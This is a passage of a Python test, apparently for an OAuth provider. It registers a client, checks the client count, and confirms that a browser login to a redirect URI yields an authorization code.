    client_id, _ = provider.client()
    _registered(provider)
    assert _count_clients(provider) == 2
    assert "code" in provider.browser().login(client_id, REDIRECT)
